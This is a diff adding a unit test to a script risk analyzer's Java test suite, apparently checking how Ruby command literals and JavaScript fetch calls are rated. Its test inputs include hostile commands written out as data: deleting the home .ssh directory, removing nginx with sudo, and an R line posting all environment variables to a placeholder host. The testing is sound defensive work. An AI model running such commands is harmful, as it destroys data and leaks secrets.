@@ -55,6 +55,17 @@ class ScriptAnalyzerTest {
     assertEquals(Level.HIGH, risk("r", "e <- Sys.getenv()\nhttr::POST('https://x.example', body = as.list(e))").level());
   }
 
+  @Test
+  void rubyCommandLiteralsAfterAMethodNameAndObjectsOverSeveralLines() {
+    assertEquals(Level.HIGH, risk("ruby", "puts %x{sudo apt-get remove -y nginx}").level());
+    assertEquals(Level.HIGH, risk("ruby", "warn %x(rm -rf #{Dir.home}/.ssh)").level());
+    assertEquals(Level.LOW, risk("ruby", "a = 10\nx = 3\nputs a %x").level());
+    assertEquals(Level.HIGH, risk("javascript", "await fetch('https://api.example.net/v1/items/7', {\n"
+        + "  method: 'DELETE',\n  headers: { Accept: 'application/json' },\n});").level());
+    assertEquals(Level.LOW, risk("javascript", "await fetch('https://api.example.net/v1/items', {\n"
+        + "  method: 'GET',\n  headers: { Accept: 'application/json' },\n});").level());
+  }
+
   /** Broken, truncated and hostile input never crashes the analysis (a crash would be reported as HIGH). */
   @Test
   void neverFailsOnGarbage() {
